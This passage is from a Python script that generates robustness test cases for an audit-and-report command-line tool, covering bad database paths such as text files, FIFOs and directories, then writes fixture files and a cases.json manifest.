        add(f"audit/{ref[1:]}", ["audit", ref, "-q"] + db, [2, 3])
    add("audit/empty-dir", ["audit", "@dir", "-q"] + db, [0, 2, 3], input_="dir")
    add("audit/db-is-text", ["audit", "@base.txt", "-q", "--db", "@copy_number.txt"], [2, 3], "not a SQLite", input_="db:copy_number.txt")
    add("audit/db-is-fifo", ["audit", "@base.txt", "-q", "--db", "@fifo.txt"], [2, 3], input_="db:fifo.txt")
    add("audit/db-is-dir", ["audit", "@base.txt", "-q", "--db", "@dir"], [2, 3], input_="db:dir")
    add("report/help", ["report", "--help"], [0], input_="(none)")
    add("report/missing-db", ["report", "-f", "json"] + db, [2, 3], "no such audit database", input_="db:missing")
    add("report/db-is-text", ["report", "-f", "json", "--db", "@copy_number.txt"], [2, 3], input_="db:copy_number.txt")
    add("report/db-is-fifo", ["report", "-f", "json", "--db", "@fifo.txt"], [2, 3], input_="db:fifo.txt")
    add("report/db-is-dir", ["report", "-f", "json", "--db", "@dir"], [2, 3], input_="db:dir")
    before = ["audit", "@trace_dir", "-q"] + db
    for fmt, extra in (("html", ["-o", "%TMP%/out"]), ("json", [])):
        case = ["report", "-f", fmt] + extra + db
        add(f"report/after-hostile-audit-{fmt}", case, [0], timeout=300, input_="trace_dir (audited)")
        out[-1]["before"] = before
    return out


def main() -> None:
    FILES.mkdir(parents=True, exist_ok=True)
    for p in FILES.iterdir():
        p.unlink()
    for name, data in binary_files().items():
        (FILES / name).write_bytes(data)
    for name, text in text_files().items():
        (FILES / name).write_bytes(text.encode("utf-8"))
    for name, data in jsonl_files().items():
        (FILES / name).write_bytes(data)
    all_cases = cases()
    ids = [c["id"] for c in all_cases]
    assert len(ids) == len(set(ids)), "duplicate case ids"
    (HERE / "cases.json").write_text(json.dumps({"cases": all_cases}, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    size = sum(p.stat().st_size for p in FILES.iterdir())
    print(f"{len(list(FILES.iterdir()))} files, {size / 1024:.0f} KiB; {len(all_cases)} cases")


if __name__ == "__main__":
    main()
